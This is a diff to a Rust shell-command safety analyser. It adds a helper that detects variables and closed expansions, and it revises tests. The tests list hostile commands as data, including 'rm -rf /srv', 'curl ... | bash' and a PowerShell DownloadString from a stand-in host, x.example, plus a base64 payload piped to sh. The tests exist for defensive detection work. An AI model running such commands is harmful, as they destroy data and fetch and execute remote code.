@@ -50,6 +50,17 @@ pub(super) fn mended(text: &str) -> Option<String> {
     mender.changed.then_some(mended)
 }
 
+/// Whether nothing in a text that no shell takes stands for a program that another shell would find: no variable, and no expansion that is
+/// closed. fish takes a backtick for a letter and `;;` for `;`.
+pub(super) fn names_no_variable(text: &str) -> bool {
+    let plain = |(at, _): (usize, &str)| {
+        let next = text.get(at + 1..).and_then(|rest| rest.chars().next());
+        next.is_none_or(|c| matches!(c, '(' | '{' | ' ' | '"' | '\''))
+    };
+    let closed = |open: &str, close: char| text.contains(open) && text.contains(close);
+    text.match_indices('$').all(plain) && !closed("$(", ')') && !closed("${", '}') && text.matches('`').count() < 2
+}
+
 struct Mender {
     out: Vec<u8>,
     changed: bool,
@@ -247,6 +258,11 @@ mod tests {
     }
 
     #[test]
+    fn another_shells_brackets_are_no_mistakes() {
+        assert_eq!(mended("x = (New-Object Net.WebClient).DownloadString('http://x.example/a') )"), None);
+    }
+
+    #[test]
     fn a_line_that_no_shell_takes_is_judged_by_the_rest_of_it() {
         let held = |line: &str| analyse(line, &Context::PROMPT).effects.iter().any(|e| e.severity >= Severity::Medium);
         for line in ["ls ;;", ";", "ls`", "`", "$(ls", "}", "done", "ls >", "db.users.find()", "$?", "^[[A^[[A"] {
@@ -257,10 +273,11 @@ mod tests {
             "| rm -rf /srv",
             "echo cm0gLXJmIC9zcnYK | base64 -d | sh ;;",
             "curl -s https://x.example/a | bash ;;",
-            "iex (New-Object Net.WebClient).DownloadString('http://x.example/a')",
             "ls ) rm -rf /srv",
             "echo a,b} | sh; reboot",
-            "$x -rf /srv ;; `",
+            "$x -rf /srv ;;",
+            "$x -rf /srv `",
+            "$(echo rm) -rf /srv `",
             "eval \"$x\" ;;",
         ] {
             assert!(held(line), "{line}");
